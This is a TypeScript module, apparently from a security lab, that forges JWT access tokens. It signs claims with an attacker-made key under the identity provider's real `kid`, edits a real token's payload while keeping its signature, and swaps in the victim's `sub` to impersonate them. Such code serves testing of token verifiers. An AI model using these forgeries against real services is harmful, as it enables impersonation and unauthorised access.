/**
 * Forged subject tokens: what an attacker without the IdP's key can make. A token signed with a
 * key the attacker made up (under the IdP's `kid`), a real token with an edited payload, and the
 * claims such a token would carry to pass for the victim.
 */
import { generateKeyPairSync, randomUUID, sign as cryptoSign } from 'node:crypto'
import { decodeClaims } from '../demo/paths/index.js'
import type { LabContext } from './types.js'

function b64url(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url')
}

/** An ES256 JWT signed with a key the attacker made up, under the IdP's `kid`. */
export function forgeSelfSigned(claims: Record<string, unknown>, kid: string | undefined): string {
  const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const input = `${b64url({ alg: 'ES256', typ: 'at+jwt', ...(kid ? { kid } : {}) })}.${b64url(claims)}`
  const signature = cryptoSign('sha256', Buffer.from(input), {
    key: privateKey,
    dsaEncoding: 'ieee-p1363',
  })
  return `${input}.${signature.toString('base64url')}`
}

/** A real token whose payload was edited: the original header and signature kept. */
export function tamperPayload(token: string, changes: Record<string, unknown>): string {
  const [header, payload, signature] = token.split('.')
  const claims = JSON.parse(Buffer.from(payload ?? '', 'base64url').toString('utf8')) as Record<
    string,
    unknown
  >
  return `${header}.${b64url({ ...claims, ...changes })}.${signature}`
}

/** The `kid` in a token's header, so a forged token names the IdP's real key. */
export function headerKid(token: string): string | undefined {
  try {
    const header = JSON.parse(
      Buffer.from(token.split('.')[0] ?? '', 'base64url').toString('utf8'),
    ) as { kid?: unknown }
    return typeof header.kid === 'string' ? header.kid : undefined
  } catch {
    return undefined
  }
}

/** The attacker's own claims with the victim's `sub`, fresh `iat`/`exp` and a new `jti`. */
export function victimClaims(ctx: LabContext): Record<string, unknown> {
  const now = Math.floor(Date.now() / 1000)
  return {
    ...decodeClaims(ctx.attackerToken),
    sub: ctx.config.victim.sub,
    iat: now,
    exp: now + 300,
    jti: randomUUID(),
  }
}
